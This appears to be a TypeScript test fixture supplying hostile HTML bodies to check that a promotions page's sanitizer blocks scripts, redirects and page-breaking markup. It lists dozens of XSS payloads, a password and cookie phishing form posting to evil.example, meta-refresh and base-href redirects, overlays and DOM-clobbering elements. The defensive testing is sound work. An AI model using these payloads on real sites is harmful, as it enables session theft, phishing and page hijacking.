/**
 * Bodies that a careless or hostile editor might leave. None of it may run, lead away or break the
 * page (safety B8).
 */
import type { HostileKind } from './promotion-seed';

const SCRIPTS = [
  '<script>window.__pwned = 1</script>',
  '<img src="x" onerror="window.__pwned = 2">',
  '<a href="javascript:window.__pwned=3">点我领取</a>',
  '<a href=" jAvAsCrIpT&#58;window.__pwned=4">再点我</a>',
  '<svg onload="window.__pwned=5"><script>window.__pwned=6</script></svg>',
  '<iframe src="https://evil.example/"></iframe>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=7"></style></mglyph></table></mtext></math>',
  '<a href="data:text/html,<script>1</script>">数据</a>',
  '<details open ontoggle="window.__pwned=8">展开</details>',
  '<object data="https://evil.example/x.swf"></object>',
].join('');

const OVERLAY = [
  '<form action="https://evil.example/"><input name="cookie"><input type="password" name="password" placeholder="请输入密码"><button>登录</button></form>',
  '<div id="app" name="location" style="position:fixed;inset:0;z-index:99999;background:#fff">遮罩</div>',
  '<a id="platform" name="session" href="https://evil.example/">会话</a>',
  '<base href="https://evil.example/" target="_top">',
  '<style>body{display:none!important}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<video autoplay src="https://evil.example/a.mp4" onloadstart="window.__pwned=9"></video>',
].join('');

const HUGE_PARAGRAPHS = 1_500;
const huge = (): string =>
  Array.from(
    { length: HUGE_PARAGRAPHS },
    (_, at) =>
      `<p>第 ${at + 1} 条：本条款用于说明超长细则的展示效果，请以简明细则为准，如有疑问请联系在线客服。</p>`,
  ).join('');

const DEEP = 400;
const broken = (): string =>
  `${'<div><ul><li><b>'.repeat(DEEP)}层层嵌套<table><tr><td>没有闭合的表格<p>没有闭合的段落<a href="//evil.example">协议相对链接`;

/** HTML per kind. */
export const HOSTILE: Readonly<Record<HostileKind, string>> = {
  scripts: SCRIPTS,
  overlay: OVERLAY,
  huge: huge(),
  broken: broken(),
};

/**
 * Ways to run a script, to lead away, to look like the site or to break it; `#` stands for the
 * number of the body.
 */
const VECTORS = [
  '<script>window.__pwned=#</script>',
  '<script src="https://evil.example/#.js"></script>',
  '<img src=x onerror="window.__pwned=#">',
  '<img src="x` `<script>window.__pwned=#</script>"` `>',
  '<svg/onload=window.__pwned=#>',
  '<svg><animate onbegin="window.__pwned=#" attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:window.__pwned=#"><text y=20>领取</text></a></svg>',
  '<a href="javascript:window.__pwned=#">领取</a>',
  '<a href="java\nscript:window.__pwned=#">领取</a>',
  '<a href="vbscript:window.__pwned=#">领取</a>',
  '<a href="//evil.example/#">领取</a>',
  '<a href="\\\\evil.example\\#">领取</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4xPC9zY3JpcHQ+">领取</a>',
  '<a href="https://evil.example/#" target="_top">官方网站</a>',
  '<iframe srcdoc="<script>parent.__pwned=#</script>"></iframe>',
  '<embed src="https://evil.example/#.swf">',
  '<object data="javascript:window.__pwned=#"></object>',
  '<form action="https://evil.example/#"><input type="password" name="p"><button>登录</button></form>',
  '<button formaction="javascript:window.__pwned=#">提交</button>',
  '<input autofocus onfocus="window.__pwned=#">',
  '<style>*{display:none!important}</style>',
  '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">遮罩 #</div>',
  '<p style="background:url(https://evil.example/#.png)">背景</p>',
  '<link rel="stylesheet" href="https://evil.example/#.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/#">',
  '<base href="https://evil.example/#/">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=#"></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=window.__pwned=#>"></noscript>',
  '<template><script>window.__pwned=#</script></template>',
  '<details open ontoggle="window.__pwned=#">展开</details>',
  '<video src=x onerror="window.__pwned=#"></video>',
  '<marquee onstart="window.__pwned=#">滚动</marquee>',
  '<body onload="window.__pwned=#">',
  '<div id="app">假的根节点 #</div>',
  '<img name="getElementById" id="body" src="x">',
  '<p>\u202e反向文字 #</p>',
  '<table><td><script>window.__pwned=#</script>',
  '<<script>window.__pwned=#//<</script>',
  '<!--><img src=x onerror=window.__pwned=#>-->',
  '<a href="/cn/mobile/logout?x=#">继续</a>',
] as const;

/**
 * One body of many: three vectors, the next ones for each number, around a line of text; the first
 * fourteen bodies hold all.
 */
export const hostileBody = (at: number): string =>
  `<p>正文 ${at + 1}</p>${[at * 3, at * 3 + 1, at * 3 + 2].map((pick) => (VECTORS[pick % VECTORS.length] ?? '').replaceAll('#', String(at))).join('')}<p>结尾 ${at + 1}</p>`;
